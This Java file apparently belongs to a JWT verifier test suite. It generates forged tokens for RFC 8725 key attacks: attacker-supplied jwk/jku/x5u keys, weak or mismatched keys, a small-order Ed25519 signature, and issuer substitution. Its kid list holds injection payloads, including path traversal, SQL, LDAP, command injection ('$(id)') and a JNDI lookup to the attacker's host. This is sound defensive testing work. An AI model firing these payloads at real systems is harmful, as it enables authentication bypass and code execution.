package dev.discreet.attacks;

import static dev.discreet.attacks.Attack.malformed;
import static dev.discreet.attacks.Attack.wrongKey;

import dev.discreet.identity.Forge;
import dev.discreet.identity.Keys;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;

/** The header says which key, or brings one (RFC 8725 §2.9, §3.5, §3.8, §3.10; RFC 7515 §4.1). */
final class KeyAttacks {
  private KeyAttacks() {}

  /** {@return them all; {@code url} is the attacker's} */
  static List<Attack> all(String url) {
    List<Attack> all = new ArrayList<>();
    all.addAll(brought(url));
    all.addAll(injected(url));
    all.addAll(ofWrongForm());
    all.addAll(ofOtherUse());
    all.addAll(ofOtherIssuers());
    return all;
  }

  /** Signed by the attacker, whose key the header brings or points to. */
  private static List<Attack> brought(String url) {
    String jwk = Keys.rsaJwk("k1", Keys.OTHER_RSA);
    String beyond = url.replace("http://", "http://id.example.com@");
    Map<String, String> members =
        Map.of(
            "jwk", "\"jwk\":" + jwk,
            "jku", "\"jku\":\"" + url + "/jwks\"",
            "jku behind user information", "\"jku\":\"" + beyond + "/jwks\"",
            "x5u", "\"x5u\":\"" + url + "/cert.pem\"",
            "x5c", "\"x5c\":[\"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\"]",
            "x5t", "\"x5t\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAA\"",
            "jwk, jku and x5u",
                "\"jwk\":" + jwk + ",\"jku\":\"" + url + "\",\"x5u\":\"" + url + "\"",
            "url", "\"url\":\"" + url + "\",\"keys\":[" + jwk + "]");
    List<Attack> all = new ArrayList<>();
    members.forEach(
        (name, member) -> {
          all.add(wrongKey("§3.10 " + name, attackers("\"kid\":\"k1\"," + member)));
          all.add(
              wrongKey("§3.10 " + name + ", kid unknown", attackers("\"kid\":\"x\"," + member)));
          all.add(wrongKey("§3.10 " + name + ", no kid", attackers(member)));
        });
    return all;
  }

  private static String attackers(String members) {
    return Forge.token(
        "RS256",
        Keys.OTHER_RSA.getPrivate(),
        "{\"alg\":\"RS256\"," + members + "}",
        Forgery.claims());
  }

  private static List<Attack> injected(String url) {
    List<String> kids =
        List.of(
            "../../../../dev/null",
            "..\\\\..\\\\windows\\\\win.ini",
            "/proc/sys/kernel/randomize_va_space",
            "file:///dev/null",
            "keys.json",
            "x' UNION SELECT 'k1' -- ",
            "k1' OR '1'='1",
            "*)(kid=*",
            "{\\\"$ne\\\":null}",
            "k1; sleep 10",
            "$(id)",
            "${jndi:ldap://" + url.substring("http://".length()) + "/a}",
            url + "/jwks",
            "%s%s%n",
            "k1%00",
            "k1\\u0000",
            "k1\\r\\nx-injected: 1",
            " k1",
            "K1",
            "\\u212a1",
            "",
            "a".repeat(5000));
    List<Attack> all = new ArrayList<>();
    for (String kid : kids) {
      String shown = kid.length() > 40 ? "of 5000 characters" : kid;
      all.add(wrongKey("§3.10 kid " + shown, Forgery.by("RS256", Keys.RSA, kid)));
    }
    return all;
  }

  private static List<Attack> ofWrongForm() {
    return List.of(
        malformed("§3.10 kid a number", Forgery.headed("{\"alg\":\"RS256\",\"kid\":1}")),
        malformed("§3.10 kid null", Forgery.headed("{\"alg\":\"RS256\",\"kid\":null}")),
        malformed("§3.10 kid true", Forgery.headed("{\"alg\":\"RS256\",\"kid\":true}")),
        malformed("§3.10 kid a list", Forgery.headed("{\"alg\":\"RS256\",\"kid\":[\"k1\"]}")),
        malformed("§3.10 kid an object", Forgery.headed("{\"alg\":\"RS256\",\"kid\":{\"a\":1}}")),
        malformed(
            "§3.10 kid twice", Forgery.headed("{\"alg\":\"RS256\",\"kid\":\"x\",\"kid\":\"k1\"}")));
  }

  private static List<Attack> ofOtherUse() {
    BiFunction<String, String, String> rsa = (alg, kid) -> Forgery.by(alg, Keys.RSA, kid);
    return List.of(
        wrongKey("§3.5 RSA key of 1024 bits", Forgery.by("RS256", Keys.WEAK_RSA, "weak")),
        wrongKey("§3.5 RSA key of 1024 bits, no kid", weak()),
        wrongKey("§3.5 Ed25519 key of small order", anybodys()),
        wrongKey("§3.1 key whose use is encryption", rsa.apply("RS256", "encrypts")),
        wrongKey("§3.1 key that may only sign", rsa.apply("RS256", "signs")),
        wrongKey("§3.1 key of PS256 for RS256", rsa.apply("RS256", "ps256")),
        wrongKey("§3.1 key of an encryption's alg", rsa.apply("RS256", "oaep")),
        wrongKey("§3.1 ES256 with a key on P-384", sized("ES256", "p384", 64)),
        wrongKey("§3.1 ES384 with a key on P-256", sized("ES384", "p256", 96)),
        wrongKey("§3.1 ES256 by P-256, kid of P-384", Forgery.by("ES256", Keys.P256, "p384")),
        wrongKey("§3.1 EdDSA with a key on P-256", sized("EdDSA", "p256", 64)),
        wrongKey("§3.1 ES256 with an Ed25519 key", sized("ES256", "ed", 64)));
  }

  private static String weak() {
    return Forge.token(
        "RS256", Keys.WEAK_RSA.getPrivate(), "{\"alg\":\"RS256\"}", Forgery.claims());
  }

  /** R the neutral point and s = 0: valid for every message under a neutral key. */
  private static String anybodys() {
    byte[] signature = new byte[64];
    signature[0] = 1;
    return Forgery.unsigned(Forgery.header("EdDSA", "small")) + "." + Forge.base64(signature);
  }

  private static String sized(String algorithm, String kid, int octets) {
    byte[] signature = new byte[octets];
    signature[octets / 2 - 1] = 1;
    signature[octets - 1] = 1;
    return Forgery.unsigned(Forgery.header(algorithm, kid)) + "." + Forge.base64(signature);
  }

  private static List<Attack> ofOtherIssuers() {
    String header = Forgery.header("RS256", "k1");
    String other = Forgery.with(Map.of("iss", '"' + Forgery.OTHER + '"', "aud", "\"others\""));
    return List.of(
        wrongKey("§3.8 key of another issuer", attackers("\"kid\":\"k1\"")),
        wrongKey("§3.8 key of another issuer, no kid", attackers("\"typ\":\"JWT\"")),
        wrongKey("§3.8 our key, iss of another", Forgery.of(header, other)),
        wrongKey("§3.8 our key, iss of another, no kid", Forgery.of("{\"alg\":\"RS256\"}", other)),
        new Attack(
            "§2.7 substitution: issued for another's API",
            Attack.WRONG_AUDIENCE,
            Forgery.claimed(Forgery.claims("aud", "\"others\""))),
        new Attack(
            "§3.8 both wrong: iss that nobody has, alg none",
            Attack.WRONG_ISSUER,
            Forgery.of(
                Forgery.header("none", "k1"), Forgery.claims("iss", "\"https://evil.example\""))));
  }
}
